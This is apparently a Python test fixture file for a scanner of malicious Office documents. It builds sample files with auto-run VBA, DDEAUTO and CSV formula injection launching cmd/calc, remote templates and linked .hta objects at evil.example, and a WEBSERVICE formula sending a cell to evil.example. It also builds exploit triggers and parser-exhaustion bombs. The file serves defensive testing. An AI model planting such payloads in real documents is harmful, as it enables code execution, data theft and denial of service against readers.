"""Documents that do something when they are opened, and honest ones beside them: what they are, and what is to be found."""

import base64
import struct
from collections.abc import Callable
from dataclasses import dataclass

from tests import locked, office

OWN = "VelvetSweatshop"
AUTO = 'Sub AutoOpen()\r\n  Shell "calc.exe", 1\r\nEnd Sub\r\n'
OPEN = "Private Sub Workbook_Open()\r\n  MsgBox 1\r\nEnd Sub\r\n"
SHELL = 'Sub Start()\r\n  CreateObject("WScript.Shell").Run "calc"\r\nEnd Sub\r\n'
PLAIN = "Function Twice(n)\r\n  Twice = 2 * n\r\nEnd Function\r\n"
EQUATION = bytes.fromhex("02ce020000000000c000000000000046")
LIST_VIEW = bytes.fromhex("4bf0d1bd8b85d111b16a00c0f0283628")


@dataclass(frozen=True, slots=True)
class Sample:
    """A file, and the codes of the filter `macros` for it."""

    name: str
    octets: bytes
    codes: tuple[str, ...] = ()


def _vba(source: str, module: str = "ThisDocument", **options: object) -> bytes:
    return office.word(office.project({module: source}, **options))  # type: ignore[arg-type]


def _openxml(source: str, folder: str = "word", **others: str | bytes) -> bytes:
    project = office.compound(office.project({"ThisDocument": source}, storage=""))
    return office.zipped({"[Content_Types].xml": "<Types/>", f"{folder}/vbaProject.bin": project, **others})


def _related(kind: str, target: str, mode: str = "External") -> bytes:
    return office.zipped(
        {"[Content_Types].xml": "<Types/>", "word/_rels/document.xml.rels": office.relationship(kind, target, mode)}
    )


def _connected(address: str, on_load: str) -> bytes:
    connection = f'<connection id="1" type="4" refreshOnLoad="{on_load}"><webPr xml="1" url="{address}"/></connection>'
    return office.zipped(
        {"[Content_Types].xml": "<Types/>", "xl/connections.xml": f"<connections>{connection}</connections>"}
    )


def _document(inner: str) -> bytes:
    return office.zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": office.body(inner)})


def _equation(font: bytes) -> bytes:
    native = bytes(28) + b"\3\1\1\3\n" + b"\n\1" + b"\x08\x5a\x5a" + font
    return office.compound({"Equation Native": native}, {"": EQUATION})


def _embedded(name: str, octets: bytes = b"harmless") -> bytes:
    return office.word({"ObjectPool/_1/\1Ole10Native": office.native(name, octets)})


def _linked(address: str) -> bytes:
    return office.compound(
        {"\1Ole": struct.pack("<IIIII", 0x2000001, 1, 0, 0, 0) + address.encode("utf-16-le") + bytes(40)}
    )


def _in_rich(name: str, octets: bytes, words: str = "") -> bytes:
    return office.rich(office.objdata(office.ole1(name, octets), words))


def _torn(digits: str) -> str:
    """Hexadecimal digits as those write them who do not want them found."""
    return "".join(f"{digits[n : n + 7]}{{\\*\\junk{n} dead}}\r\n\t" for n in range(0, len(digits), 7))


def _wide(sample: bytes) -> bytes:
    return sample.decode("ascii").encode("utf-16")


def _flat(project: bytes) -> bytes:
    data = base64.encodebytes(office.active_mime(project)).decode()
    return f'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:d><w:binData w:name="editdata.mso">{data}</w:binData></w:d>'.encode()


def _web_archive(project: bytes) -> bytes:
    data = base64.encodebytes(office.active_mime(project))
    return (
        b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Location: editdata.mso\r\n\r\n'
        + data
        + b"\r\n--b--\r\n"
    )


def _odf(content: str, **others: str) -> bytes:
    text = f'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">{content}</office:document-content>'
    return office.zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": text, **others})


def _book(stream: bytes) -> bytes:
    return office.compound({"Workbook": stream.ljust(4096, b"\0")})


_MACRO_SHEET = office.biff(*[office.record(0x31, bytes(30))] * 70, office.defined_name(1), macro_sheet=2)
_PROJECT = office.compound(office.project({"ThisDocument": AUTO}))
_SAVED = 'Sub Keep()\r\n  Open "x" For Output As #1\r\nEnd Sub\r\n'
_DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
_QUOTED = " ".join(str(ord(one)) for one in "DDEAUTO")

SAMPLES: dict[str, Sample] = {
    # VBA
    "AutoOpen in a doc": Sample("a.doc", _vba(AUTO), ("macro_auto",)),
    "AutoOpen in a docm": Sample("a.docm", _openxml(AUTO), ("macro_auto",)),
    "AutoOpen under another name": Sample("a.docx", office.zipped({"word/picture.png": _PROJECT}), ("macro_auto",)),
    "AutoOpen on two lines": Sample("a.doc", _vba("Sub _\r\n  AutoOpen()\r\nEnd Sub\r\n"), ("macro_auto",)),
    "Main in a module AutoExec": Sample("a.dot", _vba("Sub Main()\r\nEnd Sub\r\n", "AutoExec"), ("macro_auto",)),
    "Workbook_Open in an xls": Sample("a.xls", office.workbook(extra=office.project({"ThisWorkbook": OPEN}, "_VBA_PROJECT_CUR")), ("macro_auto",)),
    "Document_Close": Sample("a.doc", _vba("Private Sub Document_Close()\r\nEnd Sub\r\n"), ("macro_auto",)),
    "a control that paints itself": Sample("a.doc", _vba("Sub InkPicture1_Painted(ByVal h As Long)\r\nEnd Sub\r\n"), ("macro_auto",)),
    "a button that starts a program": Sample("a.doc", _vba("Sub Button1_Click()\r\nShell 1\r\nEnd Sub\r\n"), ("macro_suspicious",)),
    "a macro that starts programs": Sample("a.doc", _vba(SHELL), ("macro_suspicious",)),
    "a macro that declares a library": Sample(
        "a.doc", _vba('Private Declare PtrSafe Function Sleep Lib "kernel32" (ByVal n As Long)\r\nSub A()\r\nEnd Sub\r\n'), ("macro_suspicious",)
    ),
    "a macro that writes a file": Sample("a.doc", _vba(_SAVED), ("macro",)),
    "a macro that computes": Sample("a.doc", _vba(PLAIN), ("macro",)),
    "a project without a procedure": Sample("a.xls", office.workbook(extra=office.project({"ThisWorkbook": ""}))),
    "a function with the name of an event's half": Sample("a.doc", _vba("Function worksheet_exists(n)\r\nEnd Function\r\n"), ("macro",)),
    "AutoOpen in a comment": Sample("a.doc", _vba("' Sub AutoOpen() was here\r\n" + PLAIN), ("macro",)),
    "source that was overwritten": Sample("a.doc", _vba(AUTO, lost=["ThisDocument"]), ("macro_hidden",)),
    "source that tells another story": Sample("a.doc", _vba(PLAIN, cache=b"\0\0AutoOpenV\0\0Shell\0", compiled=3000), ("macro_hidden", "macro")),
    "names that were left over": Sample("a.doc", _vba(PLAIN, cache=b"\0\0AutoOpen\0", compiled=900), ("macro",)),
    "two modules of a name": Sample(
        "a.doc", office.word({**office.project({"M": PLAIN}), "Forms/M": b"no source"}), ("macro",)
    ),
    "macros in slides": Sample("a.ppt", office.slides(office.compound(office.project({"M": "Sub Auto_Open()\r\nEnd Sub\r\n"}))), ("macro_auto",)),
    "macros in slides, not packed": Sample("a.ppt", office.slides(office.compound(office.project({"M": SHELL})), False), ("macro_suspicious",)),
    "macros in a web archive": Sample("a.doc", _web_archive(_PROJECT), ("macro_auto",)),
    "macros in Word 2003 XML": Sample("a.xml", _flat(_PROJECT), ("macro_auto",)),
    "macros in an ActiveMime blob": Sample("editdata.mso", office.active_mime(_PROJECT), ("macro_auto",)),
    "macros in a mail that is attached": Sample("a.msg", office.compound({"__attach/__substg1.0_37010102": _vba(AUTO)}), ("macro_auto",)),
    "macros in a document in rich text": Sample("a.rtf", _in_rich("Excel.SheetMacroEnabled.12", office.compound({"Package": _openxml(OPEN, "xl")})), ("macro_auto",)),
    "a ribbon that runs a macro": Sample(
        "a.pptm", office.zipped({"customUI/customUI.xml": '<?xml version="1.0"?><customUI xmlns="x" onLoad="Run"><ribbon/></customUI>'}), ("macro_auto",)
    ),
    "a Basic module": Sample(
        "a.odt", _odf("", **{"Basic/Standard/M.xml": '<?xml version="1.0"?><script:module script:name="M" script:language="StarBasic">Sub Main\nEnd Sub</script:module>'}), ("macro",)
    ),
    "an event of an ODF document": Sample(
        "a.odt", _odf('<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:S.M.Main"/>'), ("macro_auto",)
    ),
    "a button in an ODF document": Sample(
        "a.odt", _odf('<script:event-listener script:event-name="form:performaction" xlink:href="vnd.sun.star.script:S.M.Main"/>')
    ),
    # Excel 4
    "a macro sheet": Sample("a.xls", office.workbook(macro_sheet=0), ("xlm",)),
    "a macro sheet that is very hidden": Sample("a.xls", office.workbook(office.defined_name(1), macro_sheet=2), ("xlm",)),
    "a macro sheet that says that it is none": Sample("a.xls", office.workbook(macro_sheet=1, kind=0), ("xlm",)),
    "a macro sheet without a compound file": Sample("a.xls", office.biff(macro_sheet=0), ("xlm",)),
    "a macro sheet in an xlsm": Sample(
        "a.xlsm", office.zipped({"[Content_Types].xml": '<Types><Override PartName="/xl/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'}), ("xlm",)
    ),
    "a macro sheet in an xlsb": Sample(
        "a.xlsb", office.zipped({"xl/_rels/workbook.bin.rels": office.relationship("xlMacrosheet", "macrosheets/s.bin", "Internal")}), ("xlm",)
    ),
    "Excel 4 macros as text": Sample("a.slk", b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EALERT(1)\r\nE\r\n", ("xlm",)),
    # DDE
    "DDE in a docx": Sample("a.docx", _document(office.field(_DDE)), ("dde",)),
    "DDE in pieces": Sample("a.docx", _document(office.field("D", "DE", "AUTO", " c:\\\\x")), ("dde",)),
    "DDE in a simple field": Sample("a.docx", _document('<w:fldSimple w:instr="&#68;DE cmd x"/>'), ("dde",)),
    "DDE with marks between": Sample("a.docx", _document(office.field("<![CDATA[DDE]]>AUTO cmd")), ("dde",)),
    "DDE with comments between": Sample("a.docx", _document(office.field("DD<!-- x -->EAUTO cmd")), ("unreadable",)),
    "DDE as numbers": Sample("a.docx", _document(office.field(f"QUOTE {_QUOTED}") + office.field(' "cmd"')), ("dde",)),
    "DDE in UTF-16": Sample("a.docx", office.zipped({"word/document.xml": _wide(office.body(office.field(_DDE)).encode())}), ("dde",)),
    "DDE in a doc": Sample("a.doc", office.word(text=f"\x13 {_DDE} \x14x\x15".encode("latin-1")), ("dde",)),
    "DDE in a doc in UTF-16": Sample("a.doc", office.word(text=f"\x13 {_DDE} \x14x\x15".encode("utf-16-le")), ("dde",)),
    "DDE in rich text": Sample("a.rtf", office.rich("{\\field{\\*\\fldinst {\\b DDE}{\\i AUTO} cmd}}"), ("dde",)),
    "DDE in an xls": Sample("a.xls", office.workbook(office.dde_link("cmd", "/c calc")), ("dde",)),
    "a link to another workbook": Sample("a.xls", office.workbook(office.dde_link("\1\1C", "x\3b.xls"))),
    "DDE in an xlsx": Sample("a.xlsx", office.zipped({"xl/externalLinks/l.xml": '<?xml version="1.0"?><x><ddeLink ddeService="cmd" ddeTopic="/c"/></x>'}), ("dde",)),
    "DDE in an ods": Sample("a.ods", _odf('<table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="x"/></table:dde-link>'), ("dde",)),
    "DDE in an xlsb": Sample(
        "a.xlsb", office.zipped({"xl/externalLinks/l.bin": b"\xe8\x02\x14\1\0" + struct.pack("<I", 3) + "cmd".encode("utf-16-le") + bytes(9)}), ("dde",)
    ),
    "DDE in Excel 2003 XML": Sample(
        "a.xml", b"<?xml version='1.0'?><Workbook><Cell ss:Formula=\"=cmd&#124;'/c calc'!A1\"/></Workbook>", ("dde",)
    ),
    "a link to another workbook, and sheets of odd names": Sample(
        "a.xls", office.workbook(office.record(0x1AE, struct.pack("<HHB", 1, 4, 0) + b"book" + b"\3\0\0a\3b"))
    ),
    "DDE in a CSV": Sample("a.csv", b"a,b\r\n1,=cmd|'/C calc'!A0\r\n", ("dde",)),
    "DDE in a CSV behind a sum": Sample("a.csv", b'"=1+cmd|\'/C calc\'!A0"\r\n', ("dde",)),
    "a CSV with bars": Sample("a.csv", b"a|b|c!\r\n=1+1|2|x\r\n"),
    "a page number": Sample("a.docx", _document(office.field(" PAGE \\* MERGEFORMAT "))),
    "a word that ends in DDE": Sample("a.docx", _document(office.field(" REF ADDE_1 "))),
    "DDE in a SYLK file": Sample("a.slk", b"ID;P\r\nC;X1;Y1;K0;EMSEXCEL|'\\..\\cmd.exe /c calc'!''\r\nE\r\n", ("dde",)),
    "a SYLK file with bars": Sample("a.slk", b"ID;P\r\nC;X1;Y1;K\"a|b!\";E1+1\r\nE\r\n"),
    # what is fetched
    "a picture on a share": Sample("a.docx", _related("image", "file://198.51.100.1/s/a.png"), ("remote",)),
    "a text on a share": Sample("a.docx", _document(office.field('INCLUDETEXT "\\\\\\\\198.51.100.1\\\\a.docx"')), ("remote",)),
    "a text from elsewhere": Sample("a.rtf", office.rich("{\\field{\\*\\fldinst INCLUDETEXT \"https://evil.example/a\"}}"), ("remote",)),
    "a picture on a share, in a field": Sample("a.docx", _document(office.field('INCLUDEPICTURE "\\\\\\\\198.51.100.1\\\\a.png" \\d')), ("remote",)),
    "a picture from elsewhere, in a field": Sample("a.docx", _document(office.field('INCLUDEPICTURE "https://example.org/a.png" \\* MERGEFORMATINET'))),
    "a formula that asks the web": Sample(
        "a.xlsx", office.zipped({"xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet><f>_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)</f></worksheet>'}), ("remote",)
    ),
    "a page that a workbook reads when it is opened": Sample("a.xlsx", _connected("https://evil.example/a", "1"), ("remote",)),
    "a page that a workbook reads when it is asked to": Sample("a.xlsx", _connected("https://example.org/a", "0")),
    "a macro sheet in references": Sample(
        "a.xlsx", office.zipped({"[Content_Types].xml": '<Types><Override PartName="/a.xml" ContentType="application/vnd.ms-excel.mac&#114;o&#x73;heet+xml"/></Types>'}), ("xlm",)
    ),
    "a template from elsewhere": Sample("a.docx", _related("attachedTemplate", "https://evil.example/t.dotm"), ("remote",)),
    "a template on a share": Sample("a.docx", _related("attachedTemplate", "file:///\\\\evil.example\\s\\t.dotm"), ("remote",)),
    "a template in the own network": Sample("a.docx", _related("attachedTemplate", "file:///\\\\server\\s\\t.dotm")),
    "a template on a machine without a name": Sample("a.docx", _related("attachedTemplate", "file:///\\\\3221225985\\t.dotm"), ("remote",)),
    "a template on the own disk": Sample("a.docx", _related("attachedTemplate", "file:///C:\\Users\\Jane\\Normal.dotm")),
    "an object from elsewhere": Sample("a.docx", _related("oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example/x"), ("remote",)),
    "a page in a frame": Sample("a.docx", _related("frame", "http&#58;//evil.example/"), ("remote",)),
    "a link to click on": Sample("a.docx", _related("hyperlink", "https://example.org/")),
    "a picture from elsewhere": Sample("a.docx", _related("image", "https://example.org/logo.png")),
    "a template in rich text": Sample("a.rtf", office.rich("{\\*\\template http://evil.example/t.dot}"), ("remote",)),
    "a template in rich text, in escapes": Sample("a.rtf", office.rich("{\\*\\template \\'68\\'74tp://evil.example/t.dot}"), ("remote",)),
    "a template in a doc": Sample("a.doc", office.word(template="http://evil.example/t.dot"), ("remote",)),
    "a linked object": Sample("a.doc", _linked("http://evil.example/a.hta"), ("remote",)),
    "a linked object in rich text": Sample("a.rtf", _in_rich("OLE2Link", _linked("http://evil.example/a.hta"), "\\objautlink"), ("remote",)),
    "control words that are shown": Sample("a.rtf", office.rich("\\\\template http://evil.example/ \\\\objdata 00")),
    "control words behind a backslash that is shown": Sample(
        "a.rtf", office.rich("{\\*\\\\\\template http://evil.example/}"), ("remote",)
    ),
    "a web query": Sample("a.iqy", b"WEB\r\n1\r\nhttp://evil.example/x\r\n", ("remote",)),
    "a macro in Python": Sample("a.odt", _odf("", **{"Scripts/python/a.py": "import os"}), ("macro_suspicious",)),
    # what is embedded
    "a script in a mail of Outlook": Sample(
        "a.msg", office.compound({"__attach/__substg1.0_37010102": b"WScript.Echo(1)", "__attach/__substg1.0_3707001F": "a.js".encode("utf-16-le")}), ("program",)
    ),
    "a letter in a mail of Outlook": Sample(
        "a.msg", office.compound({"__attach/__substg1.0_37010102": b"Dear all", "__attach/__substg1.0_3707001F": "a.txt".encode("utf-16-le")})
    ),
    "a script in a package": Sample("a.doc", _embedded("invoice.js"), ("program",)),
    "a program under another name": Sample("a.doc", _embedded("letter.txt", b"MZ".ljust(128, b"\0") + b"PE\0\0"), ("program",)),
    "a letter in a package": Sample("a.doc", _embedded("letter.txt")),
    "a program in rich text": Sample("a.rtf", _in_rich("Package", office.package("a.exe", b"MZ")), ("program",)),
    "a program in torn rich text": Sample(
        "a.rtf", office.rich("{\\object{\\*\\objdata " + _torn(office.ole1("Package", office.package("a.exe", b"MZ")).hex()) + "}}"), ("program",)
    ),
    "an object in rich text, in escapes": Sample(
        "a.rtf", office.rich("{\\object{\\*\\objdata " + "".join(f"\\'{octet:02x}" for octet in office.ole1("Package", office.package("a.exe", b"MZ"))) + "}}"), ("exploit",)
    ),
    "a script in a notebook": Sample("a.one", office.notebook(b"\x89PNG\r\n\x1a\n", b"<html><script>1</script></html>"), ("program",)),
    "a script in a notebook from the cloud": Sample(
        "a.one", office.notebook()[:48] + bytes.fromhex("2fe98d63d4a6c14b9a36b3fc2511a5b7") + "\1invoice.hta\0".encode("utf-16-le"), ("program",)
    ),
    "a picture in a notebook": Sample("a.one", office.notebook(b"\x89PNG\r\n\x1a\n" + bytes(64))),
    "a slide that starts a program": Sample(
        "a.pptx", office.zipped({"ppt/slides/slide1.xml": '<?xml version="1.0"?><p:sld><a:hlinkMouseOver r:id="r" action="ppaction://program"/></p:sld>'}), ("program",)
    ),
    # old faults
    "a formula of the old editor": Sample("a.doc", _equation(b"Times New Roman\0" + bytes(60))),
    "a formula with too long a font": Sample("a.doc", _equation(b"c" * 60 + b"\0"), ("exploit",)),
    "a program in the text of a mail that is attached": Sample(
        "a.msg", office.compound({"__substg1.0_10090102": office.packed_rich(_in_rich("Package", office.package("a.exe", b"MZ")))}), ("program",)
    ),
    "a formula that wants to run": Sample("a.rtf", _in_rich("Equation.3", _equation(b"Symbol\0" + bytes(60)), "\\objupdate"), ("exploit",)),
    "a list control": Sample("a.doc", office.compound({"Ctls/1/contents": b"x"}, {"Ctls/1": LIST_VIEW}), ("exploit",)),
    "a list control in a docx": Sample(
        "a.docx", office.zipped({"word/activeX/a.xml": '<?xml version="1.0"?><ax:ocx ax:classid="{BDD1F04B-858B-11D1-B16A-00C0F0283628}"/>'}), ("exploit",)
    ),
    # what cannot be told
    "an encrypted docx": Sample("a.docx", office.compound({"EncryptedPackage": bytes(64), "EncryptionInfo": bytes(64)}), ("encrypted",)),
    "an encrypted doc": Sample("a.doc", office.word(flags=0x0100), ("encrypted",)),
    "an encrypted xls": Sample("a.xls", office.workbook(office.record(0x2F, bytes(54))), ("encrypted",)),
    "a doc that is cut off": Sample("a.doc", _vba(AUTO)[:1500], ("unreadable",)),
    "a zip that is cut off": Sample("a.docx", _openxml(AUTO)[:80], ("unreadable",)),
    "a doc with an ActiveMime that is cut off": Sample("a.doc", b"MIME-Version: 1.0\r\n\r\n" + base64.encodebytes(b"ActiveMime" + bytes(60)), ("unreadable",)),
    # what opens without asking
    "an encrypted docx that opens": Sample("a.docx", locked.agile(_openxml(AUTO), OWN), ("macro_auto",)),
    "an encrypted xlsm with SHA-1": Sample("a.xlsm", locked.agile(_openxml(OPEN, "xl"), OWN, name="SHA1", bits=128), ("macro_auto",)),
    "an encrypted docm of Office 2007": Sample("a.docm", locked.standard(_openxml(AUTO), OWN), ("macro_auto",)),
    "an encrypted pptm that opens": Sample("a.pptm", locked.agile(_openxml(AUTO, "ppt"), "/01Hannes Ruescher/01"), ("macro_auto",)),
    "an encrypted macro sheet": Sample("a.xls", _book(locked.rc4(_MACRO_SHEET, OWN)), ("xlm",)),
    "an encrypted macro sheet of Excel 2003": Sample("a.xls", _book(locked.crypto_api(_MACRO_SHEET, OWN)), ("xlm",)),
    "an encrypted macro sheet with a short key": Sample("a.xls", _book(locked.crypto_api(_MACRO_SHEET, OWN, 40)), ("xlm",)),
    "a masked macro sheet": Sample("a.xls", _book(locked.xor(_MACRO_SHEET)), ("xlm",)),
    "DDE in an encrypted xls": Sample("a.xls", _book(locked.rc4(office.biff(*[office.record(0x18, bytes(20))] * 90, office.dde_link("cmd", "/c calc")), OWN)), ("dde",)),
    "an honest docx that opens": Sample("a.docx", locked.agile(_document("<w:r><w:t>Dear all</w:t></w:r>"), OWN)),
    "an encrypted docx that is none": Sample("a.docx", locked.agile(b"Dear all", OWN), ("unreadable",)),
    "a docx with a password": Sample("a.docx", locked.agile(_openxml(AUTO), "Sesame-4711"), ("encrypted",)),
    "an xls with a password": Sample("a.xls", _book(locked.crypto_api(_MACRO_SHEET, "Sesame-4711")), ("encrypted",)),
    "a docx with a lock that takes hours": Sample("a.docx", locked.agile(_openxml(AUTO), OWN, spins=10_000_000), ("encrypted",)),
    # nothing at all
    "an honest doc": Sample("a.doc", office.word()),
    "an honest xls": Sample("a.xls", office.workbook()),
    "honest rich text": Sample("a.rtf", office.rich("{\\field{\\*\\fldinst HYPERLINK \"https://example.org/\"}}", "{\\pict\\pngblip 89504e47}")),
    "an honest docx": Sample("a.docx", _document("<w:r><w:t>Dear all, DDEAUTO is bad</w:t></w:r>")),
    "an honest odt": Sample("a.odt", _odf("<text:p>Dear all</text:p>")),
    "an honest CSV": Sample("a.csv", b"name,price\r\ntea,-1.50\r\n"),
}  # fmt: skip


_XML = b'<?xml version="1.0"?><x>'
_NOTE = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")


def _patched(at: int, octets: bytes, data: bytes) -> bytes:
    return data[:at] + octets + data[at + len(octets) :]


def _circle() -> bytes:
    data = bytearray(_vba(AUTO))
    fat = 512 * (1 + struct.unpack_from("<I", data, 76)[0])
    data[fat : fat + 512] = bytes(512)
    return bytes(data)


def _many_streams() -> bytes:
    entry = struct.pack(
        "<64sHBB12s16s20xIQ", "WordDocument".encode("utf-16-le"), 26, 2, 1, b"\xff" * 12, bytes(16), 0, 6_000_000
    )
    root = struct.pack("<64sHBB12s16s20xIQ", "R".encode("utf-16-le"), 4, 5, 1, b"\xff" * 12, bytes(16), 0xFFFFFFFE, 0)
    data = bytearray(office.compound({"big": bytes(2_400_000)}))
    directory = root + entry * 18_000
    start = len(data) // 512 - 1
    data[48:52] = struct.pack("<I", 0)
    data[512 : 512 + len(directory)] = directory
    return bytes(data[: (start + 1) * 512])


def _many_modules() -> bytes:
    source = office.packed(b"Attribute VB_Name" + b"x" * 4_000)
    bomb = b"\x01" + source[1:] * 500
    return office.word(
        {
            **office.project({f"M{n}": "" for n in range(20)}),
            **{f"Macros/VBA/M{n}": bytes(203) + bomb for n in range(20)},
        }
    )


HOSTILE: dict[str, tuple[bool, str, Callable[[], bytes]]] = {
    "a FAT that leads back": (True, "a.doc", _circle),
    "a directory of itself": (True, "a.doc", lambda: _patched(48, struct.pack("<I", 0), office.word())),
    "numbers without end": (True, "a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 20_000_000),
    "a FAT in sectors that lead back": (
        True, "a.doc", lambda: _patched(68, struct.pack("<II", 0, 9) + b"\xff" * 436, _patched(512, bytes(512), _vba(AUTO)))
    ),
    "18,000 streams that are one": (True, "a.doc", _many_streams),
    "macros that unpack without end": (
        True, "a.doc", lambda: office.word({"M/VBA/dir": b"\x01" + b"\x03\xb0\x02a\xfc\x0f" * 300_000, "M/VBA/_VBA_PROJECT": b""})
    ),
    "20 modules of 2 MB": (True, "a.doc", _many_modules),
    "50 MB of groups": (True, "a.rtf", lambda: b"{\\rtf1{\\*\\objdata " + b"{}" * 25_000_000),
    "50 MB of objects": (True, "a.rtf", lambda: b"{\\rtf1" + b"{\\objdata 00}" * 4_000_000),
    "50 MB of braces": (False, "a.rtf", lambda: b"{\\rtf1" + b"{" * 50_000_000),
    "50 MB in one object": (False, "a.rtf", lambda: b"{\\rtf1{\\objdata " + b"00" * 25_000_000),
    "30 MB of groups in groups": (True, "a.rtf", lambda: b"{\\rtf1" + b"{\\objdata " * 1000 + b"0" * 30_000_000),
    "1 million fields in rich text": (True, "a.rtf", lambda: b"{\\rtf1" + b"{\\fldinst x" * 1_000_000),
    "100,000 relationships": (
        True, "a.xml",
        lambda: _XML + b'<Relationship Id="r" Type="t/oleObject" TargetMode="External" Target="x"/>' * 100_000,
    ),
    "quotes without end": (False, "a.xml", lambda: _XML + b'<Relationship "' * 1_000_000),
    "elements without end": (False, "a.xml", lambda: _XML + b"<w:instrText " * 1_000_000),
    "field codes without end": (True, "a.xml", lambda: _XML + b"<w:instrText>QUOTE 68 " * 1_000_000),
    "comments without end": (True, "a.xml", lambda: _XML + b"<w:instrText>" + b"<!--" * 1_000_000),
    "prefixes without end": (False, "a.xml", lambda: _XML + b"instrText" + b"<a" * 2_000_000),
    "a workbook of small records": (False, "a.xls", lambda: office.workbook(*[office.record(0x18, bytes(20))] * 250_000)),
    "cells with bars": (False, "a.csv", lambda: b"=a|b," * 6_000_000),
    "calls in no formula": (True, "a.csv", lambda: b"a|b!" * 4_000_000),
    "one word": (False, "a.csv", lambda: b"=" + b"a" * 20_000_000),
    "a Word file of fields": (True, "a.doc", lambda: office.word(text=b"\x13x" * 3_000_000)),
    "900 notes of 30 MB": (True, "a.one", lambda: office.notebook() + (_NOTE + b"\xff" * 8 + bytes(12)) * 900 + b"\xff" * 30_000_000),
    "a notebook of dots": (
        True, "a.one", lambda: office.notebook()[:48] + bytes.fromhex("2fe98d63d4a6c14b9a36b3fc2511a5b7") + b".\0" * 15_000_000
    ),
    "100,000 notes": (True, "a.one", lambda: office.notebook(*[b"MZ"] * 100_000)),
    "slides of objects": (True, "a.ppt", lambda: office.compound({"PowerPoint Document": bytes.fromhex("00001110ffffffff") * 800_000})),
    "base64 without end": (True, "a.mht", lambda: b"MIME-Version: 1.0\r\n\r\n" + b"QWN0aXZlTWlt " * 500_000),
}  # fmt: skip
"""Documents made to keep a reader busy or to lead it in a circle: whether that is told, a name, and how it is made."""
